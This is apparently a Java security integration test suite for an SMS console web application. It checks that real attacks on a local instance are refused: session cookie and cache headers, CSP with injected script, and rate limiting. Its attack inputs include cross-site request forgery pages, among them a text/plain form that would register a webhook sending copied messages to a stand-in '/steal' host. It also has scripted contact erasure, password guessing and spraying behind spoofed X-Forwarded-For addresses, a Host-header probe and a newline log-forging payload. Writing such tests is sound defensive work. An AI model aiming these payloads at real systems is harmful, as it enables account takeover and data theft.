package org.smsconsole.web.system;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.openqa.selenium.JavascriptExecutor;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.io.StringReader;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The console's edge against an attacker, on one console (H2): each attack is made for real, from curl-like clients,
 * from another site's page in Chromium, and by guessing passwords, and each test checks it was refused and nothing
 * changed. docs/security.md names the defence each test keeps. The console trusts 127.0.0.1 as a reverse proxy
 * ({@code SMS_TRUSTED_PROXIES}), so a test chooses the source address of an API call with {@code X-Forwarded-For}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class SecurityConsoleIT {

    private static final String ADMIN_PASSWORD = "security admin password";
    private static final String VIEWER_PASSWORD = "olga's own password";

    private ConsoleProcess console;
    private Browser browser;
    private ConsoleScreens screens;
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    @BeforeAll
    void start() throws Exception {
        Path work = Path.of(System.getProperty("work.dir"), "security-" + System.currentTimeMillis());
        console = new ConsoleProcess(work, Map.of("SMS_ADMIN_PASSWORD", ADMIN_PASSWORD, "SMS_DEFAULT_COUNTRY", "GB",
                "SMS_TRUSTED_PROXIES", "127.0.0.1")).start();
        browser = new Browser();
        screens = new ConsoleScreens(browser, console);
        screens.signIn("admin", ADMIN_PASSWORD);
    }

    @AfterAll
    void stop() throws Exception {
        if (browser != null) {
            browser.close();
        }
        if (console != null) {
            console.stop();
        }
    }

    @Test
    @Order(1)
    void aOneTimePasswordWorksForNothingButChoosingYourOwn() throws Exception {
        browser.open(console.url("/admin/users.xhtml"));
        browser.type("addUserForm:username", "olga").type("addUserForm:displayName", "Olga Viewer");
        browser.choose("addUserForm:role", "VIEWER");
        browser.type("addUserForm:password", "olga one-time password").click("addUserForm:addUser");
        browser.waitForText("Added olga");

        HttpResponse<String> refused = api("GET", "/api/templates", basic("olga", "olga one-time password"), null, null);
        assertEquals(401, refused.statusCode(), refused.body());
        assertTrue(problem(refused).getString("detail").contains("one-time password"), refused.body());

        browser.click("headerForm:logout");
        screens.signIn("olga", "olga one-time password");
        screens.changePassword("olga one-time password", VIEWER_PASSWORD);
        assertEquals(200, api("GET", "/api/templates", basic("olga", VIEWER_PASSWORD), null, null).statusCode());
        browser.click("headerForm:logout");
        screens.signIn("admin", ADMIN_PASSWORD);
    }

    @Test
    @Order(2)
    void everyErrorUnderTheApiIsAProblemNeverTheServersHtmlPage() throws Exception {
        String admin = basic("admin", ADMIN_PASSWORD);
        String viewer = basic("olga", VIEWER_PASSWORD);
        String before = api("GET", "/api/templates", admin, null, null).body();
        Map<String, HttpResponse<String>> answers = new LinkedHashMap<>();
        answers.put("401 no credentials", api("GET", "/api/contacts", null, null, null));
        answers.put("401 wrong password", api("GET", "/api/contacts", basic("admin", "not the password"), null, null));
        answers.put("401 unknown key", api("GET", "/api/contacts", "Bearer smsk_nothing_here", null, null));
        answers.put("403 security constraint", api("GET", "/api/webhooks/subscriptions", viewer, null, null));
        answers.put("403 role", api("POST", "/api/templates", viewer, "application/json", "{\"name\":\"x\",\"body\":\"y\"}"));
        answers.put("404 unknown path", api("GET", "/api/no-such-thing", admin, null, null));
        answers.put("404 unknown id", api("GET", "/api/contacts/999999", admin, null, null));
        answers.put("405 method", api("DELETE", "/api/templates", admin, null, null));
        answers.put("415 text/plain", api("POST", "/api/templates", admin, "text/plain", "{\"name\":\"Plain\",\"body\":\"text\"}"));
        answers.put("415 form", api("POST", "/api/templates", admin, "application/x-www-form-urlencoded", "name=Form&body=x"));
        answers.put("413 too large", api("POST", "/api/webhooks/sinch", null, "application/json", "{\"x\":\"" + "a".repeat(1_100_000) + "\"}"));
        answers.put("400 malformed", api("POST", "/api/templates", admin, "application/json", "{\"name\": \"broken\", "));
        answers.forEach((what, answer) -> {
            int expected = Integer.parseInt(what.substring(0, 3));
            assertEquals(expected, answer.statusCode(), what + ": " + answer.body());
            assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"), what);
            JsonObject problem = problem(answer);
            assertEquals(expected, problem.getInt("status"), what);
            assertTrue(problem.containsKey("title") && problem.containsKey("detail"), what + ": " + answer.body());
            if (expected == 401) {
                assertEquals("Bearer realm=\"sms-console\"", answer.headers().firstValue("WWW-Authenticate").orElse(""), what);
            }
        });
        assertEquals(before, api("GET", "/api/templates", admin, null, null).body(), "nothing was created");
    }

    @Test
    @Order(3)
    void theSessionCookieIsSameSiteStrictPagesAreNotCachedAndRedirectsNeverEchoTheHost() throws Exception {
        Raw login = raw("GET", "/login.xhtml", "127.0.0.1:" + console.url("").getPort(), null);
        String cookie = login.header("Set-Cookie");
        assertTrue(cookie.startsWith("JSESSIONID=") && cookie.toLowerCase().contains("samesite=strict") && cookie.contains("HttpOnly"), cookie);
        assertFalse(cookie.contains("Secure"), "plain http here: " + cookie);
        assertEquals("no-store", login.header("Cache-Control"));
        assertTrue(login.header("Content-Security-Policy").contains("script-src 'self' 'nonce-"), login.header("Content-Security-Policy"));

        HttpResponse<String> signedIn = http.send(HttpRequest.newBuilder(console.url("/contacts.xhtml"))
                .header("Cookie", "JSESSIONID=" + browser.driver().manage().getCookieNamed("JSESSIONID").getValue()).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(200, signedIn.statusCode());
        assertEquals("no-store", signedIn.headers().firstValue("Cache-Control").orElse(""), "an authenticated page");
        assertEquals("no-store", api("GET", "/api/templates", basic("admin", ADMIN_PASSWORD), null, null)
                .headers().firstValue("Cache-Control").orElse(""), "an API answer");

        Raw page = raw("GET", "/contacts.xhtml", "evil.example", null);
        assertEquals(302, page.status());
        assertEquals("/login.xhtml", page.header("Location"));
        Raw directory = raw("GET", "/admin", "evil.example", null);
        assertEquals("/admin/", directory.header("Location"));
        Raw api = raw("GET", "/api", "evil.example", null);
        assertFalse(api.head().contains("evil.example"), api.head());
    }

    @Test
    @Order(4)
    void theScreensWorkUnderTheContentSecurityPolicyAndAnInjectedScriptDoesNotRun() {
        browser.consoleMessages(); // start from a clean log
        browser.open(console.url("/dashboard.xhtml"));
        browser.waitForText("Dashboard");
        browser.open(console.url("/contacts.xhtml"));
        screens.addContact("Csp Test", "07400 555111");
        browser.waitForText("+44 7400 555111");
        browser.open(console.url("/templates.xhtml"));
        browser.type("templateForm:body", "Hello ${name}");
        browser.waitForText("13 characters");
        for (String screen : new String[]{"/compose.xhtml", "/inbox.xhtml", "/messages.xhtml", "/groups.xhtml", "/import.xhtml",
                "/campaigns.xhtml", "/campaign-new.xhtml", "/suppressions.xhtml", "/sandbox.xhtml", "/admin/users.xhtml",
                "/admin/settings.xhtml", "/admin/api-keys.xhtml", "/admin/webhooks.xhtml", "/admin/prices.xhtml",
                "/admin/keywords.xhtml", "/admin/audit.xhtml", "/account/password.xhtml"}) {
            browser.open(console.url(screen));
            browser.awaitAjax();
        }
        browser.open(console.url("/groups.xhtml"));
        browser.click("groupsForm:newGroup"); // oncomplete opens the dialog: an event handler PrimeFaces moved under the nonce
        browser.type("groupDialogForm:name", "Csp group").click("groupDialogForm:saveGroup");
        browser.waitForText("Csp group");
        browser.screenshot("security-01-csp-groups");
        List<String> violations = browser.consoleMessages().stream().filter(m -> m.contains("Content Security Policy")).toList();
        assertEquals(List.of(), violations, "no screen broke the policy");

        // An inline script without the page's nonce, as injected markup would be: it does not run, and the log says so.
        JavascriptExecutor js = (JavascriptExecutor) browser.driver();
        js.executeScript("var s = document.createElement('script'); s.textContent = 'window.injected = true;';"
                + " document.body.appendChild(s);");
        assertEquals(Boolean.FALSE, js.executeScript("return window.injected === true;"));
        await().atMost(Duration.ofSeconds(5)).until(() -> browser.consoleMessages().stream().anyMatch(m -> m.contains("Content Security Policy")));
    }

    @Test
    @Order(5)
    void anotherSitesPageCannotDriveTheApiOrThePagesWithTheBrowsersCredentials() throws Exception {
        String admin = basic("admin", ADMIN_PASSWORD);
        HttpResponse<String> created = api("POST", "/api/contacts", admin, "application/json", "{\"phone\":\"+447400666777\",\"name\":\"Carla\"}");
        assertEquals(201, created.statusCode(), created.body());
        long carla = problem(created).getJsonNumber("id").longValue();
        String hooksBefore = api("GET", "/api/webhooks/subscriptions", admin, null, null).body();
        String console = "http://127.0.0.1:" + this.console.url("").getPort();

        try (AttackerSite attacker = new AttackerSite()) {
            // The browser holds Basic credentials for the console and sends them everywhere, as after a Basic prompt.
            browser.sendWithEveryRequest(Map.of("Authorization", admin));
            browser.open(this.console.url("/api/templates"));
            assertTrue(browser.bodyText().contains("\"templates\""), "the browser's requests carry the admin's credentials");

            // A form that posts JSON-looking text/plain: the trick that created an ADMIN webhook copying every SMS.
            browser.open(attacker.page("/hook.html", "<!DOCTYPE html><html><body>"
                    + "<form id=f method=post enctype=text/plain action='" + console + "/api/webhooks/subscriptions'>"
                    + "<input name='{\"url\":\"http://203.0.113.50/steal\",\"x\":\"' value='\"}'></form>"
                    + "<script>document.getElementById('f').submit();</script></body></html>"));
            String answer = browser.waitForText("Cross-site request refused");
            assertTrue(answer.contains("\"status\":403"), answer);
            browser.screenshot("security-02-cross-site-webhook-refused");

            // Scripts: a no-cors POST erasing Carla, a form posting to the erase address, a DELETE (needs a preflight).
            browser.open(attacker.page("/erase.html", "<!DOCTYPE html><html><body><iframe name=sink></iframe>"
                    + "<form id=f method=post target=sink action='" + console + "/api/contacts/" + carla + "/erase'>"
                    + "<input name=a value=b></form><script>"
                    + "document.getElementById('f').submit();"
                    + "Promise.allSettled(["
                    + " fetch('" + console + "/api/contacts/" + carla + "/erase', {method: 'POST', mode: 'no-cors', credentials: 'include'}),"
                    + " fetch('" + console + "/api/contacts/" + carla + "', {method: 'DELETE', credentials: 'include'})"
                    + "]).then(function (r) { setTimeout(function () { document.title = 'done ' + r.map(function (x) { return x.status; }).join(' '); }, 1000); });"
                    + "</script></body></html>"));
            await().atMost(Duration.ofSeconds(15)).until(() -> browser.driver().getTitle().startsWith("done"));

            // A page form of the console itself, posted from the other site: no session goes with it (SameSite=Strict).
            browser.open(attacker.page("/page.html", "<!DOCTYPE html><html><body>"
                    + "<form id=f method=post action='" + console + "/contacts.xhtml'><input name=contactsForm value=contactsForm></form>"
                    + "<script>document.getElementById('f').submit();</script></body></html>"));
            await().atMost(Duration.ofSeconds(15)).until(() -> browser.driver().getCurrentUrl().startsWith(console));
            browser.awaitAjax();
            assertFalse(browser.bodyText().contains("Csp Test"), "the contacts page was not shown to the other site's form");
        } finally {
            browser.sendWithEveryRequest(Map.of());
        }
        assertEquals(200, api("GET", "/api/contacts/" + carla, admin, null, null).statusCode(), "Carla is still there");
        assertEquals(hooksBefore, api("GET", "/api/webhooks/subscriptions", admin, null, null).body(), "no webhook was created");
        String log = this.console.log();
        assertFalse(log.contains("203.0.113.50"), "the stolen address never reached the console's storage or log");
    }

    @Test
    @Order(6)
    void guessingTheAdminsPasswordFromOneAddressLocksOnlyThatAddressAndReadsTheSameForAnUnknownName() throws Exception {
        Set<String> known = guessUntilLocked("admin", "203.0.113.10");
        HttpResponse<String> lockedOut = apiFrom("203.0.113.10", "GET", "/api/templates", basic("admin", ADMIN_PASSWORD));
        assertEquals(401, lockedOut.statusCode());
        assertTrue(problem(lockedOut).getString("detail").startsWith("Signing in with this user name from your address is locked until"));
        assertEquals(200, apiFrom("198.51.100.10", "GET", "/api/templates", basic("admin", ADMIN_PASSWORD)).statusCode(),
                "the admin, from anywhere else, is not locked out");
        Set<String> unknown = guessUntilLocked("nobody-by-this-name", "203.0.113.11");
        assertEquals(known, unknown, "the refusals do not tell whether a name exists");

        // One address trying many names: after its budget every attempt is refused at once, the right password too.
        for (int i = 0; i < 20; i++) {
            assertEquals(401, apiFrom("203.0.113.12", "GET", "/api/templates", basic("spray" + i, "Winter2026!")).statusCode());
        }
        HttpResponse<String> budget = apiFrom("203.0.113.12", "GET", "/api/templates", basic("admin", ADMIN_PASSWORD));
        assertEquals(401, budget.statusCode());
        assertTrue(problem(budget).getString("detail").startsWith("Too many failed logins from your address: wait"), budget.body());
        assertEquals(200, apiFrom("198.51.100.11", "GET", "/api/templates", basic("admin", ADMIN_PASSWORD)).statusCode());
    }

    @Test
    @Order(7)
    void aTypedNewlineCannotForgeALogLine() throws Exception {
        String forged = "[forged] [INFO] [org.smsconsole.user.StaffLogins] admin signed in"; // no colon: Basic ends the name there
        apiFrom("203.0.113.13", "GET", "/api/templates", basic("mallory\n" + forged, "whatever"));
        await().atMost(Duration.ofSeconds(10)).until(() -> console.log().contains("mallory\\n" + forged));
        assertFalse(console.log().lines().anyMatch(l -> l.startsWith(forged)), "no line of the log starts with the typed text");
    }

    @Test
    @Order(8)
    void pagingBeyondTheLargestOffsetIsABadRequestEverywhere() throws Exception {
        String admin = basic("admin", ADMIN_PASSWORD);
        for (String list : new String[]{"/api/contacts?page=2147483647&page_size=1000", "/api/groups?page=2147483647&page_size=1000",
                "/api/templates?page=2147483647&page_size=100", "/api/campaigns?page=2147483647&page_size=100",
                "/api/messages?page=2147483647&page_size=100", "/api/inbound?page=2147483647&page_size=100",
                "/api/contacts?page=99999999999", "/api/templates?page=abc"}) {
            HttpResponse<String> answer = api("GET", list, admin, null, null);
            assertEquals(400, answer.statusCode(), list + ": " + answer.body());
            assertTrue(answer.body().contains("\"field\":\"page\""), list + ": " + answer.body());
        }
    }

    @Test
    @Order(9)
    void openingAConversationByGetMarksNothingReadThePagesOwnPostDoes() throws Exception {
        screens.signIn("admin", ADMIN_PASSWORD); // the other site's form earlier left the browser a fresh, empty session
        browser.open(console.url("/sandbox.xhtml"));
        browser.type("sandboxForm:from", "+447700900123").type("sandboxForm:text", "Where is my parcel?").click("sandboxForm:send");
        browser.waitForText("received as");
        await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(500)).until(() -> {
            browser.open(console.url("/dashboard.xhtml"));
            return "Inbox (1)".equals(browser.byId("headerForm:menuInbox").getText().strip());
        });

        String session = "JSESSIONID=" + browser.driver().manage().getCookieNamed("JSESSIONID").getValue();
        HttpResponse<String> get = http.send(HttpRequest.newBuilder(console.url("/inbox.xhtml?phone=" + URLEncoder.encode("+447700900123", StandardCharsets.UTF_8)))
                .header("Cookie", session).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, get.statusCode());
        assertTrue(get.body().contains("Where is my parcel?"), "the GET showed the conversation");
        browser.open(console.url("/dashboard.xhtml"));
        assertEquals("Inbox (1)", browser.byId("headerForm:menuInbox").getText().strip(), "still unread after the GET");

        browser.open(console.url("/inbox.xhtml?phone=" + URLEncoder.encode("+447700900123", StandardCharsets.UTF_8)));
        await().atMost(Duration.ofSeconds(10)).ignoreExceptions()
                .until(() -> "Inbox".equals(browser.byId("headerForm:menuInbox").getText().strip()));
        browser.awaitAjax();
        assertTrue(browser.byId("conversationForm:readBy").getText().startsWith("Read by admin"));
        browser.screenshot("security-03-inbox-read-by-post");
    }

    @Test
    @Order(10)
    void behindHttpsTheSessionCookieIsSecureAndThePublicOriginIsTheConsolesOwn() throws Exception {
        String https = "https://127.0.0.1:" + console.url("").getPort();
        browser.close();
        browser = null;
        console.stop();
        Map<String, String> env = new HashMap<>(console.environment());
        env.put("SMS_PUBLIC_URL", https + "/");
        console = console.withEnvironment(env).start();
        String cookie = raw("GET", "/login.xhtml", "127.0.0.1:" + console.url("").getPort(), null).header("Set-Cookie");
        assertTrue(cookie.contains("Secure") && cookie.toLowerCase().contains("samesite=strict"), cookie);

        String admin = basic("admin", ADMIN_PASSWORD);
        HttpResponse<String> fromPublic = http.send(HttpRequest.newBuilder(console.url("/api/templates/preview"))
                .header("Authorization", admin).header("Origin", https).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"body\":\"Hi\"}")).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, fromPublic.statusCode(), "the public address's own pages may call the API: " + fromPublic.body());
    }

    // --- helpers

    /** Guesses wrong passwords from {@code source} as fast as answers come; the refusals seen, digits replaced by #. */
    private Set<String> guessUntilLocked(String name, String source) {
        Set<String> seen = new TreeSet<>();
        await().atMost(Duration.ofSeconds(90)).pollInterval(Duration.ofMillis(200)).until(() -> {
            HttpResponse<String> answer = apiFrom(source, "GET", "/api/templates", basic(name, "not the password"));
            assertEquals(401, answer.statusCode());
            String detail = problem(answer).getString("detail").replaceAll("[0-9]+", "#");
            seen.add(detail);
            return detail.endsWith("is now locked for # minutes.");
        });
        return seen;
    }

    private static String basic(String user, String password) {
        return "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
    }

    private HttpResponse<String> apiFrom(String source, String method, String path, String authorization) throws Exception {
        return http.send(HttpRequest.newBuilder(console.url(path)).header("Authorization", authorization)
                .header("X-Forwarded-For", source).method(method, HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString());
    }

    private HttpResponse<String> api(String method, String path, String authorization, String contentType, String body) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(console.url(path)).header("Accept", "application/json")
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (authorization != null) {
            request.header("Authorization", authorization);
        }
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static JsonObject problem(HttpResponse<String> answer) {
        return Json.createReader(new StringReader(answer.body())).readObject();
    }

    /** An answer read off the wire, for requests an HTTP client will not make (a Host header of our choosing). */
    private record Raw(int status, String head) {
        String header(String name) {
            return head.lines().filter(l -> l.regionMatches(true, 0, name + ":", 0, name.length() + 1))
                    .map(l -> l.substring(name.length() + 1).strip()).findFirst().orElse("");
        }
    }

    private Raw raw(String method, String path, String host, String cookie) throws Exception {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), console.url("").getPort())) {
            OutputStream out = socket.getOutputStream();
            out.write((method + " " + path + " HTTP/1.1\r\nHost: " + host + "\r\n" + (cookie == null ? "" : "Cookie: " + cookie + "\r\n")
                    + "Connection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.ISO_8859_1));
            List<String> head = new ArrayList<>();
            for (String line = in.readLine(); line != null && !line.isEmpty(); line = in.readLine()) {
                head.add(line);
            }
            return new Raw(Integer.parseInt(head.get(0).split(" ")[1]), String.join("\n", head));
        }
    }
}
